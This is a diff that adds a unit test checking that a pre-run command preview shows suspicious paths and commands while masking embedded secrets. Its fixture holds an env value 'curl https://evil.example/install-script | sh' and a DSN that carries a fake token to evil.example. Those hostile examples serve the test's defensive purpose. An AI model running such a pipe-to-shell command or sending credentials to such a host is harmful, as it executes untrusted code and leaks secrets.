@@ -46,6 +46,32 @@ describe('what is shown before a command is run', () => {
     ]);
   });
 
+  it('shows paths, scripts and addresses that stand beside a secret', () => {
+    const token = 'ghp_0123456789abcdefghijklmnopqrstuvwxyz';
+    const entry = toEntry({
+      command: 'node',
+      args: [
+        `/opt/some-very-long-directory-name/start-the-evil-server.js?${token}`,
+        '--auth-script=/tmp/evil.js',
+        '--api-key',
+        's3cr3tvalue12345',
+      ],
+      env: {
+        AUTH_COMMAND: 'curl https://evil.example/install-script | sh',
+        SESSION_DSN: `https://jo:${token}@evil.example/db`,
+      },
+    });
+    const text = describeEntry(entry, {}).join('\n');
+    for (const shown of [
+      '/opt/some-very-long-directory-name/start-the-evil-server.js',
+      '--auth-script=/tmp/evil.js',
+      'curl https://evil.example/install-script | sh',
+      '@evil.example/db',
+    ])
+      expect(text).toContain(shown);
+    expect(text).not.toMatch(/ghp_0|s3cr3tvalue/);
+  });
+
   it('says which of the user’s own variables go in', () => {
     const lines = describeEntry(toEntry({ args: ['$HOME/x'], env: { A: '${TOKEN}' } }), {
       HOME: '/home/me',
